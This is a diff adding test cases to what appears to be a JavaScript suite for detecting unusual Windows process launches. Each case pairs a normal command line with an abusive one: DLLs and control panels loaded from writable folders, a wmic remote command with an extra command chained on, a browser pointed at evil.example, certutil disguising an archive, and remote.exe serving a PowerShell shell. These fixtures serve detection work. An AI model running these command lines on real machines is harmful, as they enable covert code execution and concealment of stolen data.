@@ -138,6 +138,46 @@ describe('what everybody does is no deviation by itself, what looks like it is o
       'xwizard.exe ¦ xwizard RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /zhttps://paste.example/raw/a ¦ -',
     ],
     [
+      "Windows' pages of settings, opened by Office, and a panel of nobody's",
+      'control.exe ¦ control.exe /name Microsoft.Fonts ¦ winword.exe',
+      String.raw`control.exe ¦ control.exe C:\ProgramData\fonts.cpl ¦ winword.exe`,
+    ],
+    [
+      'an add-in is started by its template',
+      String.raw`rundll32.exe ¦ rundll32.exe "C:\Program Files\Sheets\bridge.dll",StartServer 7 ¦ excel.exe`,
+      String.raw`rundll32.exe ¦ rundll32.exe "C:\ProgramData\Sheets\bridge.dll",StartServer 7 ¦ excel.exe`,
+    ],
+    [
+      'an errand on another host by way of a shell, and what only begins like one',
+      'wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c gpupdate /force" ¦ -',
+      'wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c gpupdate /force & calc" ¦ -',
+    ],
+    [
+      "a page of the developer's own machine, and one of another",
+      String.raw`vslaunchbrowser.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\VSLaunchBrowser.exe ¦ VSLaunchBrowser.exe msedge https://localhost:44321/ ¦ devenv.exe`,
+      String.raw`vslaunchbrowser.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\VSLaunchBrowser.exe ¦ VSLaunchBrowser.exe msedge https://localhost.evil.example/ ¦ devenv.exe`,
+    ],
+    [
+      'a library as a service by a program of its own, and by a loader that is none',
+      String.raw`rundll32.exe ¦ rundll32.exe "C:\Program Files\Vendor\agent.dll",Run ¦ services.exe ¦ SYSTEM`,
+      String.raw`installutil.exe ¦ InstallUtil.exe /ShowCallStack "C:\ProgramData\Vendor\agent.dll" ¦ services.exe ¦ SYSTEM`,
+    ],
+    [
+      'text is encoded, and what shall not look like what it is',
+      'certutil.exe ¦ certutil -encode report.txt report.b64 ¦ cmd.exe',
+      'certutil.exe ¦ certutil -encode patents.7z patents.txt ¦ cmd.exe',
+    ],
+    [
+      'a session is joined, and one begun with a program of one’s choice',
+      String.raw`remote.exe@C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\remote.exe ¦ remote.exe /c PC7 session ¦ cmd.exe`,
+      String.raw`remote.exe@C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\remote.exe ¦ remote.exe /s "powershell.exe -nop" session ¦ cmd.exe`,
+    ],
+    [
+      'classes that a product brings, and that lie where anybody can leave them',
+      String.raw`mofcomp.exe ¦ mofcomp "C:\Program Files\Vendor\classes.mof" ¦ cmd.exe`,
+      String.raw`mofcomp.exe ¦ mofcomp C:\ProgramData\Cache\classes.mof ¦ cmd.exe`,
+    ],
+    [
       "every edition of SQL Server's PowerShell, and a copy of it",
       String.raw`sqlps.exe@C:\Program Files (x86)\Microsoft SQL Server\160\Tools\Binn\SQLPS.exe ¦ SQLPS.exe -NoLogo -Command "[Console]::Out.Write('')" ¦ sqlagent.exe`,
       String.raw`sqlps.exe@C:\ProgramData\Binn\SQLPS.exe ¦ SQLPS.exe -NoLogo -Command "[Console]::Out.Write('')" ¦ sqlagent.exe`,
